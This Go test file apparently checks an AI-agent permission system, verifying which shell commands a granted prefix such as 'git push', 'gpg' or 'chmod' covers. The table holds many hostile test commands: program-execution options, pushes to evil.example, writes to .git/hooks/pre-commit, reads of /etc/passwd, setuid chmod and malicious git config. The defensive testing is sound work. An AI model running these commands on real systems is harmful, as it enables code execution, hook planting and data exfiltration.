package grants_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/askops/askops/grants"
	"github.com/askops/askops/policy"
)

// gitWorkspace makes a workspace holding a git repository (the real git
// CLI) with the remotes given as name=url and the config lines given, and
// returns its real path.
func gitWorkspace(t *testing.T, remotes []string, config ...string) string {
	t.Helper()
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = ws
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+ws)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	run("init", "-q", "-b", "main")
	for _, r := range remotes {
		name, url, _ := strings.Cut(r, "=")
		run("remote", "add", name, url)
	}
	if len(config) > 0 {
		f, err := os.OpenFile(filepath.Join(ws, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.WriteString(strings.Join(config, "\n") + "\n"); err != nil {
			t.Fatal(err)
		}
		f.Close()
	}
	return ws
}

// isolateGitConfig makes git (and the grant models, which read what git
// reads) see no system config and an empty home.
func isolateGitConfig(t *testing.T) {
	t.Helper()
	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
	t.Setenv("GIT_CONFIG_GLOBAL", "")
	t.Setenv("XDG_CONFIG_HOME", "")
	t.Setenv("HOME", t.TempDir())
}

// prefixFixture is the main workspace of the prefix model tests: a
// repository with a network remote (origin), a remote that is a path on
// this machine (mirror) and one through ext:: (helper); links into .git
// and out of the workspace; a file hard-linked to .git/config; a
// directory on PATH.
func prefixFixture(t *testing.T) string {
	t.Helper()
	isolateGitConfig(t)
	ws := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git", "mirror=" + t.TempDir(), "helper=ext::sh -c evil"})
	for _, d := range []string{"src", "bin", "out", "tools", "docs", "vendor/lib/.git"} {
		if err := os.MkdirAll(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{"src/a.txt", "run.sh", "x.zip", "x.sig", "cert.pem", "x.patch", "bin/tool", "src/a.txt.gpg", "docs/a.md", "vendor/lib/x.go", "s.sig"} {
		if err := os.WriteFile(filepath.Join(ws, f), []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, dest := range map[string]string{"glink": ".git", "src/glink": "../.git", "etc": "/etc", "src/out": "/tmp", "s": "/etc/passwd", "y.zip": "/etc/passwd"} {
		if err := os.Symlink(dest, filepath.Join(ws, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Link(filepath.Join(ws, ".git", "config"), filepath.Join(ws, "src", "hl")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", filepath.Join(ws, "bin")+string(os.PathListSeparator)+filepath.Join(ws, "node_modules", ".bin")+
		string(os.PathListSeparator)+os.Getenv("PATH"))
	return ws
}

// A prefix grant covers a call only when every option and operand is in
// the program's model: each option one the model knows, each file inside
// the workspace and outside .git (as written and through links), each git
// remote one the repository's config names and that reaches another
// machine. Judged through the policy's Evaluate with the grant recorded
// for the session, as the agent's calls are.
func TestPrefixGrantsCoverOnlyTheirModel(t *testing.T) {
	ws := prefixFixture(t)
	clean := gitWorkspace(t, []string{"origin=git@github.com:acme/app.git"})
	hooks := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, "[core]", "\thooksPath = tools/hooks")
	include := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, "[include]", "\tpath = ../shared.config")
	outside := filepath.Join(t.TempDir(), "extra.config")
	if err := os.WriteFile(outside, []byte("[remote \"extra\"]\n\turl = https://github.com/acme/extra.git\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	includeIf := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, `[includeIf "onbranch:main"]`, "\tpath = "+outside)
	insteadOf := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, `[url "/tmp/r"]`, "\tinsteadOf = https://github.com/")
	sshInstead := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, `[url "git@github.com:"]`, "\tinsteadOf = https://github.com/")
	mirrorCfg := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, `[remote "origin"]`, "\tmirror = true")
	forceCfg := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, `[remote "origin"]`, "\tpush = +refs/heads/main:refs/heads/main")
	recurseCfg := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, "[push]", "\trecurseSubmodules = on-demand")
	fsmonitor := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, "[core]", "\tfsmonitor = tools/fsmon.sh")
	credential := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"}, "[credential]", "\thelper = !sh tools/cred.sh")

	tests := []struct {
		prefix, command string
		covered         bool
		in              string // the workspace; "" is ws
	}{
		// gpg: every option that names a program, a home, a configuration
		// or a file it writes outside the model; output in .git or out.
		{"gpg", "gpg --verify x.sig src/a.txt", true, ""},
		{"gpg", "gpg --batch --yes -o out/a.gpg --encrypt -r alice@example.com src/a.txt", true, ""},
		{"gpg", "gpg -a --detach-sign src/a.txt", true, ""},
		{"gpg", "gpg --list-keys alice", true, ""},
		{"gpg --verify", "gpg --verify x.sig", true, ""},
		{"gpg", "gpg --photo-viewer 'sh -c id' --list-keys", false, ""},
		{"gpg", "gpg --list-options show-photos --photo-viewer evil --list-keys", false, ""},
		{"gpg", "gpg --agent-program /tmp/evil --list-keys", false, ""},
		{"gpg", "gpg --dirmngr-program /tmp/evil --list-keys", false, ""},
		{"gpg", "gpg --keyboxd-program /tmp/evil --list-keys", false, ""},
		{"gpg", "gpg --exec-path /tmp --list-keys", false, ""},
		{"gpg", "gpg --homedir /tmp/h --verify x.sig", false, ""},
		{"gpg", "gpg --homedir=src --verify x.sig", false, ""},
		{"gpg", "gpg --options src/gpg.conf --verify x.sig", false, ""},
		{"gpg", "gpg --load-extension evil --verify x.sig", false, ""},
		{"gpg", "gpg --keyserver hkp://evil.example --recv-keys ABCD", false, ""},
		{"gpg", "gpg --import src/key.asc", false, ""},
		{"gpg", "gpg --log-file .git/hooks/pre-commit --verify x.sig", false, ""},
		{"gpg", "gpg --logger-file /tmp/x --verify x.sig", false, ""},
		{"gpg", "gpg --status-file .git/x --verify x.sig", false, ""},
		{"gpg", "gpg --status-fd 9 --verify x.sig", false, ""},
		{"gpg", "gpg --attribute-file /tmp/x --list-keys", false, ""},
		{"gpg", "gpg -o .git/hooks/pre-commit --decrypt src/a.txt.gpg", false, ""},
		{"gpg", "gpg --output=.git/hooks/pre-commit --decrypt src/a.txt.gpg", false, ""},
		{"gpg", "gpg -o.git/hooks/pre-commit -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg -ao .git/hooks/pre-commit --sign src/a.txt", false, ""},
		{"gpg", "gpg -o .GIT/hooks/pre-commit -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg -o ./.git/../.git/hooks/pre-commit -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg -o glink/hooks/pre-commit -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg -o src/glink/config -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg -o /tmp/out -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg -o src/out/x -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg -o src/hl -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg --sign glink/config", false, ""},
		{"gpg", "gpg --verify x.sig /etc/passwd", false, ""},
		{"gpg", "gpg --photo evil --list-keys", false, ""}, // an abbreviation gpg reads as --photo-viewer
		{"gpg", "gpg --out .git/hooks/x -d src/a.txt.gpg", false, ""},
		{"gpg", "gpg src/a.txt.gpg", false, ""},  // no command: gpg guesses, and writes src/a.txt
		{"gpg", "gpg --verify s.sig", false, ""}, // checks it against s, a link to /etc/passwd

		// openssl: engines, providers, configuration, random files, -out
		// to .git.
		{"openssl", "openssl x509 -in cert.pem -noout -text", true, ""},
		{"openssl", "openssl dgst -sha256 src/a.txt", true, ""},
		{"openssl", "openssl sha256 src/a.txt", true, ""},
		{"openssl", "openssl rand -hex 16", true, ""},
		{"openssl x509", "openssl x509 -in cert.pem -out out/cert.der -outform DER", true, ""},
		{"openssl", "openssl req -new -x509 -nodes -newkey rsa:2048 -keyout out/key.pem -out out/cert.pem -subj /CN=test -days 30", true, ""},
		{"openssl", "openssl x509 -in cert.pem -engine evil", false, ""},
		{"openssl", "openssl dgst -sha256 -engine pkcs11 src/a.txt", false, ""},
		{"openssl", "openssl x509 -in cert.pem -provider legacy", false, ""},
		{"openssl", "openssl x509 -in cert.pem -provider-path src -provider evil", false, ""},
		{"openssl", "openssl x509 -in cert.pem -propquery provider=evil", false, ""},
		{"openssl", "openssl req -config src/evil.cnf -new -nodes -keyout out/k", false, ""},
		{"openssl", "openssl rand -writerand .git/x 4", false, ""},
		{"openssl", "openssl rand -rand /dev/sda 4", false, ""},
		{"openssl", "openssl x509 -in cert.pem -out .git/hooks/pre-commit", false, ""},
		{"openssl", "openssl enc -d -a -in x.sig -out glink/hooks/pre-commit", false, ""},
		{"openssl", "openssl dgst -keyform engine -sign k src/a.txt", false, ""},
		{"openssl", "openssl x509 -in /etc/ssl/private/key.pem -noout", false, ""},
		{"openssl", "openssl x509 -inform ENGINE -in cert.pem", false, ""},
		{"openssl", "openssl enc -d -pass fd:3 -in x.sig", false, ""},
		{"openssl", "openssl s_client -connect evil.example:443", false, ""},
		{"openssl", "openssl", false, ""}, // reads commands from its input

		// unzip: the members choose where an extraction writes.
		{"unzip", "unzip -l x.zip", true, ""},
		{"unzip", "unzip -t x.zip", true, ""},
		{"unzip", "unzip -p x.zip README", true, ""},
		{"unzip", "unzip x.zip", false, ""},
		{"unzip", "unzip -o x.zip", false, ""},
		{"unzip", "unzip -n x.zip", false, ""},
		{"unzip", "unzip -d .git/hooks x.zip", false, ""},
		{"unzip", "unzip -n -d out x.zip", false, ""},
		{"unzip", "unzip -l x.zip -d .git/hooks", false, ""},
		{"unzip", "unzip -l /tmp/x.zip", false, ""},
		{"unzip", "unzip -l x", true, ""},  // reads x.zip
		{"unzip", "unzip -p y", false, ""}, // reads y.zip, a link to /etc/passwd

		// chmod, chown: .git, outside, links, hard links, PATH, -R, set-id.
		{"chmod", "chmod +x run.sh", true, ""},
		{"chmod", "chmod 644 src/a.txt", true, ""},
		{"chmod", "chmod -v u+x,g-w run.sh", true, ""},
		{"chmod +x", "chmod +x run.sh", true, ""},
		{"chmod", "chmod +x .git/hooks/pre-commit", false, ""},
		{"chmod", "chmod 600 .git/config", false, ""},
		{"chmod", "chmod 777 .git", false, ""},
		{"chmod", "chmod +x glink/hooks/pre-commit", false, ""},
		{"chmod", "chmod 666 src/glink/config", false, ""},
		{"chmod", "chmod 755 /usr/bin/find", false, ""},
		{"chmod", "chmod 755 etc/passwd", false, ""},
		{"chmod", "chmod +x bin/tool", false, ""},
		{"chmod", "chmod 666 src/hl", false, ""},
		{"chmod", "chmod -R 777 .", false, ""},
		{"chmod", "chmod u+s run.sh", false, ""},
		{"chmod", "chmod 4755 run.sh", false, ""},
		{"chmod", "chmod g=u run.sh", false, ""},
		{"chmod", "chmod --reference=run.sh .git/config", false, ""},
		{"chmod +x", "chmod +x /usr/local/bin/x", false, ""},
		{"chown", "chown alice run.sh", true, ""},
		{"chown", "chown alice:staff src/a.txt", true, ""},
		{"chown", "chown alice .git/config", false, ""},
		{"chown", "chown -R alice .", false, ""},
		{"chown", "chown alice /usr/bin/find", false, ""},
		{"chown", "chown -h alice glink", false, ""},
		{"chown", "chown alice bin/tool", false, ""},
		{"chgrp", "chgrp staff .git/hooks", false, ""},

		// git push and fetch: configured remotes that reach another
		// machine, nothing that forces, deletes or runs a program.
		{"git push", "git push origin main", true, ""},
		{"git push", "git push origin HEAD:refs/heads/topic", true, ""},
		{"git push", "git push --dry-run -v origin main", true, ""},
		{"git push", "git push --tags origin", true, ""},
		{"git push origin", "git push origin main", true, ""},
		{"git push", "git push", true, "clean"},
		{"git push", "git push", false, ""}, // the config could choose mirror
		{"git push", "git push https://evil.example/x.git main", false, ""},
		{"git push", "git push git@evil.example:x.git main", false, ""},
		{"git push", "git push evil main", false, ""},
		{"git push", "git push ./other HEAD", false, ""},
		{"git push", "git push /tmp/r HEAD", false, ""},
		{"git push", "git push file:///tmp/r HEAD", false, ""},
		{"git push", "git push ext::sh HEAD", false, ""},
		{"git push", "git push mirror main", false, ""},
		{"git push", "git push helper main", false, ""},
		{"git push", "git push --repo=https://evil.example/x origin", false, ""},
		{"git push", "git push --repo https://evil.example/x", false, ""},
		{"git push", "git push --receive-pack=/tmp/evil origin main", false, ""},
		{"git push", "git push --exec=/tmp/evil origin main", false, ""},
		{"git push", "git push --rec=/tmp/evil origin main", false, ""},
		{"git push", "git push -o ci.skip origin main", false, ""},
		{"git push", "git push --push-option=x origin main", false, ""},
		{"git push", "git push --force origin topic", false, ""},
		{"git push", "git push -f origin topic", false, ""},
		{"git push", "git push --force-with-lease origin topic", false, ""},
		{"git push", "git push origin +topic", false, ""},
		{"git push", "git push origin :topic", false, ""},
		{"git push", "git push --delete origin topic", false, ""},
		{"git push", "git push --mirror origin", false, ""},
		{"git push", "git push --prune origin", false, ""},
		{"git push", "git push --set-upstream origin topic", false, ""},
		{"git push", "git push --signed origin main", false, ""},
		{"git push", "git push --recurse-submodules=on-demand origin main", false, ""},
		{"git push", "git push -c core.sshCommand=evil origin main", false, ""},
		{"git push", "git -c core.sshCommand=evil push origin main", false, ""},
		{"git push", "git push origin main", false, "hooks"},
		{"git push", "git push origin main", false, "include"},
		{"git push", "git push origin main", true, "includeIf"},
		{"git push", "git push extra main", false, "includeIf"}, // a remote from a file git may not read
		{"git push", "git push origin main", false, "insteadOf"},
		{"git push", "git push origin main", true, "sshInstead"},
		{"git push", "git push origin main", false, "credential"},
		{"git push", "git push origin main", false, "mirrorCfg"}, // a mirror push forces and deletes
		{"git fetch", "git fetch origin", true, "mirrorCfg"},
		{"git push", "git push origin main", false, "forceCfg"}, // remote.origin.push = +…
		{"git push", "git push origin main", false, "recurseCfg"},
		{"git push", "git push --no-recurse-submodules origin main", true, "recurseCfg"},
		{"git fetch", "git fetch origin", true, ""},
		{"git fetch", "git fetch --prune --tags origin", true, ""},
		{"git fetch", "git fetch https://evil.example/x", false, ""},
		{"git fetch", "git fetch --upload-pack=/tmp/evil origin", false, ""},
		{"git fetch", "git fetch mirror", false, ""},
		{"git fetch", "git fetch origin +refs/heads/*:refs/remotes/x/*", false, ""},

		// git remote: listing, never a config write.
		{"git remote", "git remote -v", true, ""},
		{"git remote", "git remote get-url origin", true, ""},
		{"git remote", "git remote show origin", true, ""},
		{"git remote", "git remote set-url origin https://evil.example/x", false, ""},
		{"git remote", "git remote add evil https://evil.example/x", false, ""},
		{"git remote", "git remote rename origin x", false, ""},
		{"git remote", "git remote remove origin", false, ""},
		{"git remote", "git remote get-url evil", false, ""},
		{"git push", "git remote set-url origin https://evil.example/x", false, ""},

		// other git reading, and the repository's config.
		{"git status", "git status -s", true, ""},
		{"git status", "git status", false, "hooks"},
		{"git status", "git status", false, "fsmonitor"},
		{"git log", "git log --oneline -5 main -- src", true, ""},
		{"git log", "git log --output=.git/hooks/pre-commit", false, ""},
		{"git log", "git log --ext-diff -p", false, ""},
		{"git log", "git log -- .git/config", false, ""},
		{"git diff", "git diff --no-index /etc/passwd src/a.txt", false, ""},
		{"git diff", "git diff --stat main", true, ""},
		{"git diff", "git diff --cached --stat", true, ""},
		{"git branch", "git branch -a", true, ""},
		{"git branch", "git branch evil", false, ""},
		{"git branch", "git branch -D main", false, ""},

		// the rest of the models: the options that point elsewhere or
		// write are outside them.
		{"kubectl get", "kubectl get pods -n kube-system -o wide", true, ""},
		{"kubectl get", "kubectl get pods --server=https://evil.example", false, ""},
		{"kubectl get", "kubectl get pods --context=prod", false, ""},
		{"kubectl get", "kubectl get pods --kubeconfig=/tmp/k", false, ""},
		{"kubectl get", "kubectl get secrets --as=system:admin", false, ""},
		{"kubectl get", "kubectl get pods -o go-template-file=/tmp/t", false, ""},
		{"kubectl get", "kubectl get -f src/x.yaml", false, ""},
		{"docker ps", "docker ps -a --format '{{.Names}}'", true, ""},
		{"docker ps", "docker ps -H tcp://evil.example:2375", false, ""},
		{"gh pr view", "gh pr view 12 --json title", true, ""},
		{"gh pr view", "gh pr view 1 -R other/repo", false, ""},
		{"gh pr view", "gh pr view --web 1", false, ""},
		{"gh pr view", "gh pr view https://github.com/other/repo/pull/1", false, ""},
		{"gpg", "gpg -o bin/ls -d src/a.txt.gpg", false, ""},
		{"go list", "go list -m all", true, ""},
		{"go list", "go list -toolexec=/tmp/x ./...", false, ""},
		{"ls", "ls -la src", true, ""},
		{"ls", "ls /etc", false, ""},
		{"cat", "cat src/a.txt", true, ""},
		{"cat", "cat /etc/passwd", false, ""},
		{"cat", "cat etc/passwd", false, ""},
		{"cat", "cat .git/config", false, ""},
		{"grep", "grep -rn TODO docs", true, ""},
		{"grep", "grep -rn TODO src", false, ""}, // src/hl is .git/config by another name
		{"grep", "grep -r TODO .", false, ""},    // . holds .git
		{"grep", "grep -r TODO", false, ""},      // the working directory, which holds .git
		{"grep", "grep -r TODO", false, "clean"}, // the same in a workspace with nothing else
		{"grep", "grep -r --exclude-dir=.git TODO .", true, "clean"},
		{"grep", "grep -r TODO vendor", false, ""}, // vendor/lib/.git
		{"grep", "grep -r TODO vendor/lib", false, ""},
		{"grep", "grep -r --exclude-dir=.git TODO vendor", true, ""},
		{"grep", "grep TODO src/hl", false, ""},
		{"cat", "cat src/hl", false, ""},
		{"ls", "ls -R vendor", false, ""},
		{"ls", "ls -lR", false, "clean"},
		{"ls", "ls -R -I .git vendor", true, ""},
		{"ls", "ls -R docs", true, ""},
		{"grep", "grep -R TODO src", false, ""},
		{"grep", "grep root /etc/passwd", false, ""},
		{"sort", "sort -u -o out/sorted src/a.txt", true, ""},
		{"sort", "sort -o .git/hooks/pre-commit src/a.txt", false, ""},
		{"sort", "sort --compress-program=sh src/a.txt", false, ""},
		{"sort", "sort -T /tmp src/a.txt", false, ""},

		// the program itself: a workspace file, by its path or by PATH.
		{"cat", "cat src/a.txt", false, "shadowed"},       // node_modules/.bin/cat comes first on PATH
		{"WS/bin/cat", "WS/bin/cat src/a.txt", false, ""}, // an absolute path into the workspace
		{"/bin/cat", "/bin/cat src/a.txt", true, ""},      // the system's cat
	}
	// A workspace whose node_modules/.bin, on PATH before the system's
	// directories, holds a cat.
	shadowed := gitWorkspace(t, nil)
	shadowBin := filepath.Join(shadowed, "node_modules", ".bin")
	if err := os.MkdirAll(filepath.Join(shadowed, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(shadowBin, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(shadowBin, "cat"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", shadowBin+string(os.PathListSeparator)+os.Getenv("PATH"))
	spaces := map[string]string{"": ws, "shadowed": shadowed, "clean": clean, "hooks": hooks, "include": include, "includeIf": includeIf,
		"insteadOf": insteadOf, "sshInstead": sshInstead, "fsmonitor": fsmonitor, "credential": credential,
		"mirrorCfg": mirrorCfg, "forceCfg": forceCfg, "recurseCfg": recurseCfg}
	store := grants.NewMemoryStore(grants.Options{})
	t.Cleanup(func() { store.Close() })
	engine, err := policy.New(policy.Config{Grants: store})
	if err != nil {
		t.Fatal(err)
	}
	for i, tt := range tests {
		dir, ok := spaces[tt.in]
		if !ok {
			t.Fatalf("no workspace %q", tt.in)
		}
		tt.prefix = strings.ReplaceAll(tt.prefix, "WS/", dir+"/")
		tt.command = strings.ReplaceAll(tt.command, "WS/", dir+"/")
		scope, err := grants.PrefixScope(tt.prefix, dir)
		if err != nil {
			t.Fatalf("PrefixScope(%q): %v", tt.prefix, err)
		}
		session := fmt.Sprintf("s%d", i)
		if _, err := store.Record(t.Context(), session, scope, "U1", time.Hour); err != nil {
			t.Fatal(err)
		}
		call := policy.Call{Tool: "bash", Safety: policy.SideEffect, Command: tt.command, Cwd: dir, Workspace: dir, SessionID: session}
		if got := scope.Covers(call); got != tt.covered {
			t.Errorf("a prefix grant on %q covers %q (in %s): %v, want %v", tt.prefix, tt.command, orMain(tt.in), got, tt.covered)
		}
		v := engine.Evaluate(t.Context(), call)
		if granted := v.Decision == policy.Allow && v.Grant != ""; granted != tt.covered {
			t.Errorf("Evaluate(%q) with a grant on %q (in %s) = %s %q (grant %q), want covered %v",
				tt.command, tt.prefix, orMain(tt.in), v.Decision, v.Reason, v.Grant, tt.covered)
		}
	}
}

// git reads the user's config too: a hooks path there relative to each
// repository (core.hooksPath = .githooks) makes workspace files hooks.
func TestPrefixGrantReadsTheUserGitConfig(t *testing.T) {
	isolateGitConfig(t)
	ws := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"})
	s := must(t)(grants.PrefixScope("git push", ws))
	call := policy.Call{Tool: "bash", Command: "git push origin main", Cwd: ws, Workspace: ws}
	if !s.Covers(call) {
		t.Fatal("a plain push is not covered")
	}
	if err := os.WriteFile(filepath.Join(os.Getenv("HOME"), ".gitconfig"), []byte("[core]\n\thooksPath = .githooks\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if s.Covers(call) {
		t.Error("covered with the user's core.hooksPath = .githooks, a workspace directory")
	}
}

func orMain(in string) string {
	if in == "" {
		return "the main workspace"
	}
	return "the " + in + " workspace"
}

// A prefix whose own words fall outside the model, or whose program has
// none, is refused when granted (bot grants add -prefix says why), and a
// scope holding one that reached the store by another way covers nothing.
func TestPrefixGrantRefusedOutsideTheModel(t *testing.T) {
	ws := prefixFixture(t)
	for _, tc := range []struct{ prefix, call, want string }{
		{"patch", "patch -p0 -i x.patch", "patch writes the files its input names"},
		{"patch -p0", "patch -p0 -i x.patch", "patch writes"},
		{"patch -d /etc", "patch -d /etc -i x.patch", "patch writes"},
		{"unzip -d .git/hooks", "unzip -d .git/hooks x.zip", "not an option askops knows for unzip"},
		{"unzip -o", "unzip -o x.zip", "not an option askops knows for unzip"},
		{"gpg --homedir /tmp/h", "gpg --homedir /tmp/h --verify x.sig", "--homedir is not an option askops knows for gpg"},
		{"gpg --photo-viewer", "gpg --photo-viewer evil --list-keys", "--photo-viewer is not an option"},
		{"gpg -o .git/hooks/pre-commit", "gpg -o .git/hooks/pre-commit -d src/a.txt.gpg", "in .git"},
		{"openssl -engine", "openssl -engine evil", "no model of openssl -engine"},
		{"openssl s_client", "openssl s_client -connect evil.example:443", "no model of openssl s_client"},
		{"openssl x509 -engine", "openssl x509 -engine evil -in cert.pem", "-engine is not an option"},
		{"chmod -R", "chmod -R 777 src", "-R is not an option"},
		{"chmod u+s", "chmod u+s run.sh", "not a mode askops knows"},
		{"chmod +x .git/hooks/pre-commit", "chmod +x .git/hooks/pre-commit", "in .git"},
		{"git push https://evil.example/x.git", "git push https://evil.example/x.git main", "never a URL or a path"},
		{"git push evil.example:x.git", "git push evil.example:x.git main", "never a URL or a path"},
		{"git push --signed", "git push --signed origin main", "--signed is not an option"},
		{"git push -o", "git push -o ci.skip origin main", "-o is not an option"},
		{"git remote set-url", "git remote set-url origin https://evil.example/x", "change what later pushes"},
		{"git remote add", "git remote add evil https://evil.example/x", "change what later pushes"},
		{"git blame", "git blame src/a.txt", "no model of git blame"},
		{"vault read", "vault read secret/x", "no model of vault read"},
		{"npm ls", "npm ls", "no model of npm ls"},
		{"rm", "rm src/a.txt", "no model of rm"},
		{"7z x", "7z x x.zip", "no model of 7z x"},
		{"git apply", "git apply x.patch", "no model of git apply"},
	} {
		_, err := grants.PrefixScope(tc.prefix, ws)
		if err == nil || grants.ErrorCode(err) != grants.CodeInvalid || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("PrefixScope(%q) = %v, want an invalid-scope refusal saying %q", tc.prefix, err, tc.want)
		}
		if err != nil && !strings.Contains(err.Error(), "grant the exact command instead") {
			t.Errorf("PrefixScope(%q): %v, want it to point at the exact command", tc.prefix, err)
		}
		stored := grants.Scope{Tool: "bash", Kind: grants.KindPrefix, Command: tc.prefix, Cwd: ws}
		if stored.Covers(policy.Call{Tool: "bash", Command: tc.call, Cwd: ws, Workspace: ws}) {
			t.Errorf("a stored prefix grant %q covers %q", tc.prefix, tc.call)
		}
	}
}

// The confirm dialog and bot grants list say what a prefix grant covers
// beyond its words, from the same model that judges each call.
func TestPrefixScopeStringSaysTheModel(t *testing.T) {
	for _, tc := range []struct{ prefix, want string }{
		{"git push", `bash: commands starting with "git push" in /ws (known options only; configured remotes only; no force, delete or push options)`},
		{"gpg", `bash: commands starting with "gpg" in /ws (known options only; files in the workspace, not .git)`},
		{"unzip", `bash: commands starting with "unzip" in /ws (known options only; listing, testing or printing, never extracting)`},
		{"openssl", `bash: commands starting with "openssl" in /ws (known subcommands and options only; files in the workspace, not .git)`},
	} {
		if got := must(t)(grants.PrefixScope(tc.prefix, "/ws")).String(); got != tc.want {
			t.Errorf("String() = %s\nwant          %s", got, tc.want)
		}
	}
}
